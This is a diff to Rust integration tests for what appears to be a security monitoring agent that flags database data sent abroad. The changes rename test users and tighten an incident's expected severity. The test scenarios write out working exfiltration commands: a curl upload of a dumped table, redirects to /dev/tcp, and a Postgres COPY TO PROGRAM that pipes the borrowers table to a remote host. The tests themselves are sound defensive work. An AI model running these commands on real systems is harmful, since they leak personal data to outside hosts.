@@ -41,7 +41,7 @@ fn person(user: &str, script: &str, server: &Postgres, folder: &Path) {
 
 /// Incidents of the person and of the role: others may work on this machine.
 fn own(agent: &Agent) -> Vec<Value> {
-    let own = |incident: &Value| ["analyst", "games"].iter().any(|user| incident["user.name"] == *user);
+    let own = |incident: &Value| ["analyst", "irc"].iter().any(|user| incident["user.name"] == *user);
     agent.setup.incidents().into_iter().filter(own).collect()
 }
 
@@ -64,7 +64,7 @@ fn read_packed_and_sent_abroad_is_one_critical_incident_with_the_whole_way() {
          curl -sSk --limit-rate 60k -T list.csv.gz https://{abroad}/list && true"
     );
     let told = std::thread::scope(|scope| {
-        let thief = scope.spawn(|| person("games", &script, &server, &folder));
+        let thief = scope.spawn(|| person("irc", &script, &server, &folder));
         let told = until("the chain is told", LIMIT, || chained(&agent).map(|_| now()));
         assert!(!thief.is_finished(), "it is told while the upload runs");
         thief.join().expect("the script ends");
@@ -88,7 +88,7 @@ fn read_packed_and_sent_abroad_is_one_critical_incident_with_the_whole_way() {
     let flow = &flows[0];
     assert_eq!((&flow["destination.address"], &flow["destination.port"]), (&abroad.as_str().into(), &443.into()));
     assert_eq!((&flow["kuzet.place.verdict"], &flow["kuzet.joined"]), (&"foreign-unlisted".into(), &"session".into()));
-    assert_eq!((&flow["process"]["process.name"], &flow["process"]["user.name"]), (&"curl".into(), &"games".into()));
+    assert_eq!((&flow["process"]["process.name"], &flow["process"]["user.name"]), (&"curl".into(), &"irc".into()));
     let sent = flow["destination.bytes"].as_u64().expect("bytes");
     assert!(sent < bytes + bytes / 50 + 4_096, "{sent} bytes of {bytes}: what TLS adds is little");
     let steps: Vec<&str> =
@@ -102,7 +102,7 @@ fn read_packed_and_sent_abroad_is_one_critical_incident_with_the_whole_way() {
     crate::cli::valid(&map, &crate::support::root().join("docs/schema/geo-map-1.json"));
     let ours = |one: &&Value| one["address"] == *abroad.as_str();
     let ended = map["destinations"].as_array().into_iter().flatten().find(ours).expect("the world is on the map");
-    assert_eq!((&ended["stores"][0], &ended["accounts"][0]), (&"borrowers".into(), &"games".into()), "{ended}");
+    assert_eq!((&ended["stores"][0], &ended["accounts"][0]), (&"borrowers".into(), &"irc".into()), "{ended}");
     println!("{}", String::from_utf8_lossy(&agent.setup.run(&["geo", "map"]).stdout));
     agent.setup.accounted("pg");
     agent.setup.accounted("host");
@@ -133,7 +133,7 @@ fn what_a_server_account_or_a_dump_sends_abroad_is_told_and_a_registered_recipie
     let read = "$PSQL -c \"COPY borrowers TO STDOUT\" > list.csv";
     // Who may have it gets it, and in Kazakhstan nobody else is asked for a few bytes.
     person(
-        "lp",
+        "list",
         &format!("{read}; cat list.csv > /dev/tcp/{abroad}/8443; echo hello > /dev/tcp/{home}/9000; true"),
         &server,
         &folder,
@@ -145,17 +145,20 @@ fn what_a_server_account_or_a_dump_sends_abroad_is_told_and_a_registered_recipie
     // The server's own account: a program that COPY … TO PROGRAM starts is a child of the server's process.
     let send = format!("COPY borrowers TO PROGRAM 'bash -c \"cat > /dev/tcp/{abroad}/9000\"'");
     server.admin("mfo", &send);
+    // What it sends is in clear: the people in it are counted without the database's log.
     let traffic = until("the server's account is told", LIMIT, || {
         let is = |incident: &Value| incident.to_string().contains("service_traffic");
+        let clear = |incident: &Value| incident.to_string().contains("data_in_clear");
         agent
             .setup
             .incidents()
             .into_iter()
-            .find(|incident| is(incident) && incident.to_string().contains(abroad.as_str()))
+            .find(|one| is(one) && clear(one) && one.to_string().contains(abroad.as_str()))
     });
-    assert_eq!((&traffic["user.name"], &traffic["kuzet.severity"]), (&"postgres".into(), &"high".into()), "{traffic}");
-    assert!(
-        traffic["kuzet.headline"].as_str().is_some_and(|text| text.contains("sends out of Kazakhstan")),
+    assert_eq!(
+        (&traffic["user.name"], &traffic["kuzet.severity"]),
+        (&"postgres".into(), &"critical".into()),
         "{traffic}"
     );
+    assert!(traffic["kuzet.people"]["at_least"].as_u64().is_some_and(|people| people > 100), "{traffic}");
 }
